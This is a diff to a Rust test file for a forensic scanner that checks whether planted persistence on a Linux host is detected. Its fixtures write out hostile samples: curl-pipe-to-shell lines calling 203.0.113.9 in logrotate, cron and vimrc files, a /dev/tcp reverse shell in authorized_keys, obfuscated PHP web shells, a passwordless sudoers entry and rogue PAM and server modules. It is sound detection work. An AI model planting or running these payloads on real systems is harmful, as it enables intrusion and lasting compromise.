@@ -1,7 +1,7 @@
 //! Rules about files (`FS`): what was planted is found, with the line that matters, and ordinary changes are no finding.
 
 use cryoscope::Checkpoint;
-use cryoscope::analysis::{Finding, Scan, Selection, Severity};
+use cryoscope::analysis::{Evidence, Finding, Scan, Selection, Severity};
 
 use crate::archives::Members;
 use crate::fixtures;
@@ -53,30 +53,9 @@ fn severity_of(findings: &[Finding], rule: &str, path: &str) -> Option<Severity>
 }
 
 #[test]
-fn what_was_planted_in_the_web_application_is_found() {
+fn a_program_is_the_finding_of_its_process() {
     let checkpoint = Checkpoint::open(fixtures::archive_of("webapp-compromise")).unwrap();
     let findings = scan(&checkpoint);
-    for (rule, path, least) in [
-        ("FS-001", "/etc/ld.so.preload", Severity::Critical),
-        ("FS-002", "/etc/passwd", Severity::High),
-        ("FS-003", "/root/.ssh/authorized_keys", Severity::High),
-        ("FS-004", "/etc/cron.d/.sysupdate", Severity::High),
-        ("FS-008", "/tmp/.cache/.x/xmrig", Severity::High),
-        ("FS-008", "/usr/local/lib/libsysaudit.so", Severity::High),
-        ("FS-010", "/var/tmp/.font-unix/.sh", Severity::High),
-        ("FS-013", "/root/.bash_history", Severity::High),
-        ("FS-014", "/var/log/.journal-cache", Severity::Medium),
-        ("FS-015", "/tmp/.. ", Severity::Medium),
-        ("FS-015", "/tmp/.cache/.x", Severity::Medium),
-        ("FS-015", "/dev/shm/.lck", Severity::Medium),
-        ("FS-018", "/tmp/.cache/.x/kdevtmpfsi", Severity::Medium),
-        ("FS-019", "/memfd:", Severity::High),
-    ] {
-        let found = severity_of(&findings, rule, path);
-        assert!(found >= Some(least), "{rule} {path}: {found:?}");
-    }
-    assert!(findings.iter().all(|finding| !finding.subject.text().starts_with(b"/srv/shop")), "the application itself");
-    assert!(findings.iter().all(|finding| !finding.evidence.is_empty()));
 
     // The program of process 21 is that process's finding, so that what others find about it agrees.
     let miner = findings.iter().find(|finding| finding.subject.text() == "/tmp/.cache/.x/xmrig").unwrap();
@@ -97,20 +76,36 @@ fn the_line_that_matters_is_at_its_offset() {
     ] {
         let findings = scan(&checkpoint);
         let evidence = findings.iter().filter(|finding| finding.rule.id == rule).flat_map(|finding| &finding.evidence);
-        let found =
-            evidence.filter(|evidence| evidence.text.as_ref().is_some_and(|text| text == line)).collect::<Vec<_>>();
+        // A line may also have been typed: then it is in memory, too.
+        let is_in_file =
+            |evidence: &&Evidence| evidence.member.as_ref().is_some_and(|member| member == "rootfs-diff.tar");
+        let has_line = |evidence: &&Evidence| evidence.text.as_ref().is_some_and(|text| text == line);
+        let found = evidence.filter(is_in_file).filter(has_line).collect::<Vec<_>>();
         let [found] = found.as_slice() else { panic!("{rule}: {found:?}") };
-        assert_eq!(found.member.as_ref().unwrap(), "rootfs-diff.tar");
         let at = usize::try_from(found.member_offset.unwrap()).unwrap();
         assert_eq!(&tar[at..at + line.len()], line.as_bytes(), "{rule}");
         assert!(found.archive_offset.is_some(), "{rule}");
     }
 }
 
+/// A rule, the file that it finds: path, mode, contents; and the least severity.
+type Case<'c> = (&'c str, &'c str, u32, &'c [u8], Severity);
+
+/// Each file is found by its rule, at least as severe as said.
+fn finds(cases: &[Case<'_>], others: &[(&str, u32, &[u8])]) {
+    let files: Vec<(&str, u32, &[u8])> =
+        cases.iter().map(|(_, path, mode, contents, _)| (*path, *mode, *contents)).collect();
+    let findings = with_changes(&[files.as_slice(), others].concat());
+    for (rule, path, _, _, least) in cases {
+        let found = severity_of(&findings, rule, path);
+        assert!(found >= Some(*least), "{rule} {path}: {found:?}");
+    }
+}
+
 #[test]
 fn other_ways_to_come_back_are_found() {
     let elf = elf();
-    let cases: &[(&str, &str, u32, &[u8], Severity)] = &[
+    let cases: &[Case<'_>] = &[
         ("FS-002", "/etc/sudoers.d/x", 0o440, b"www-data ALL=(ALL) NOPASSWD: ALL\n", Severity::High),
         ("FS-004", "/var/spool/cron/crontabs/root", 0o600, b"@reboot /dev/shm/.a/run\n", Severity::High),
         (
@@ -171,13 +166,60 @@ fn other_ways_to_come_back_are_found() {
         ("FS-028", "/srv/site/.git/hooks/post-merge", 0o755, b"#!/bin/sh\n/tmp/.x/run\n", Severity::High),
         ("FS-028", "/var/www/html/.htaccess", 0o644, b"AddType application/x-httpd-php .jpg\n", Severity::High),
     ];
-    let files: Vec<(&str, u32, &[u8])> =
-        cases.iter().map(|(_, path, mode, contents, _)| (*path, *mode, *contents)).collect();
-    let findings = with_changes(&files);
-    for (rule, path, _, _, least) in cases {
-        let found = severity_of(&findings, rule, path);
-        assert!(found >= Some(*least), "{rule} {path}: {found:?}");
-    }
+    finds(cases, &[]);
+}
+
+#[test]
+fn places_that_are_seldom_looked_at() {
+    let elf = elf();
+    let cases: &[Case<'_>] = &[
+        ("FS-028", "/etc/nginx/nginx.conf", 0o644, b"load_module /usr/lib/.k/x.so;\n", Severity::High),
+        ("FS-028", "/etc/php/8.4/cli/conf.d/99-x.ini", 0o644, b"extension=/tmp/x.so\n", Severity::High),
+        ("FS-028", "/etc/ssl/openssl.cnf", 0o644, b"[x]\ndynamic_path = /dev/shm/e.so\n", Severity::High),
+        (
+            "FS-028",
+            "/etc/logrotate.d/x",
+            0o644,
+            b"/var/log/x {\n postrotate\n  curl http://203.0.113.9/x | sh\n endscript\n}\n",
+            Severity::High,
+        ),
+        ("FS-028", "/root/.vimrc", 0o644, b"autocmd BufRead * silent !curl http://203.0.113.9/v | sh\n", Severity::High),
+        ("FS-028", "/root/.ssh/config", 0o644, b"Host *\n ProxyCommand /tmp/.p %h\n", Severity::High),
+        ("FS-028", "/var/lib/dpkg/info/curl.postinst", 0o755, b"#!/bin/sh\n/tmp/.x/run\n", Severity::High),
+        ("FS-004", "/etc/anacrontab", 0o644, b"SHELL=/bin/sh\n1 5 daily.x /usr/lib/.k/agent\n", Severity::High),
+        ("FS-004", "/etc/cron.d/x", 0o644, b"5 1 * * * root /usr/local/sbin/fetch\n", Severity::High),
+        (
+            "FS-003",
+            "/home/dev/.ssh/authorized_keys",
+            0o600,
+            b"command=\"bash -i >& /dev/tcp/203.0.113.9/1 0>&1\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICryoLab a\n",
+            Severity::High,
+        ),
+        ("FS-003", "/etc/ssh/sshd_config", 0o644, b"AuthorizedKeysFile /etc/ssh/.keys/%u\n", Severity::High),
+        ("FS-003", "/etc/ssh/sshd_config.d/1.conf", 0o644, b"PermitRootLogin yes\n", Severity::Medium),
+        // The module is among the changes, and named without its directory.
+        ("FS-007", "/etc/pam.d/login", 0o644, b"auth sufficient pam_unixx.so\n", Severity::High),
+        (
+            "FS-011",
+            "/var/www/html/uploads/c.php",
+            0o644,
+            b"<?php $x=str_rot13(\"flfgrz\"); @$x($_POST[0]);",
+            Severity::High,
+        ),
+        (
+            "FS-011",
+            "/var/www/html/s.php",
+            0o644,
+            b"<?php class A{function __destruct(){ ($this->a)($this->b);} } unserialize(base64_decode($_SERVER[\"HTTP_X_A\"]));",
+            Severity::High,
+        ),
+    ];
+    // What the job of cron and the rules for logins name.
+    let others: [(&str, u32, &[u8]); 2] = [
+        ("/usr/local/sbin/fetch", 0o755, b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"),
+        ("/lib/x86_64-linux-gnu/security/pam_unixx.so", 0o644, &elf),
+    ];
+    finds(cases, &others);
 }
 
 #[test]
@@ -208,6 +250,11 @@ fn files_that_packages_and_entry_points_write_are_quiet() {
         ("/usr/lib/python3/dist-packages/distutils-precedence.pth", 0o644, b"import os; var = 'S'; enabled = os.environ.get(var, 'local') == 'local'\n"),
         ("/etc/hosts", 0o644, b"127.0.0.1 localhost\n10.0.0.1 db\n"),
         ("/var/log/app.log", 0o644, b"started\n"),
+        ("/etc/php/8.4/cli/conf.d/20-curl.ini", 0o644, b"extension=curl.so\nopcache.preload=/srv/app/preload.php\n"),
+        ("/etc/logrotate.d/app", 0o644, b"/var/log/app.log {\n daily\n postrotate\n  kill -HUP 1\n endscript\n}\n"),
+        ("/home/ada/.ssh/config", 0o600, b"Host *\n  ProxyCommand nc -X connect %h %p\n  LocalCommand echo hello\n"),
+        ("/home/ada/.vimrc", 0o644, b"set number\nautocmd FileType python set ts=4\nnmap <F5> :!python3 %<CR>\n"),
+        ("/var/www/html/hooks.php", 0o644, b"<?php foreach ($filters as $f) { $v = $f($value); } ($this->run)($this->x);"),
     ]);
     let loud: Vec<_> = findings
         .iter()
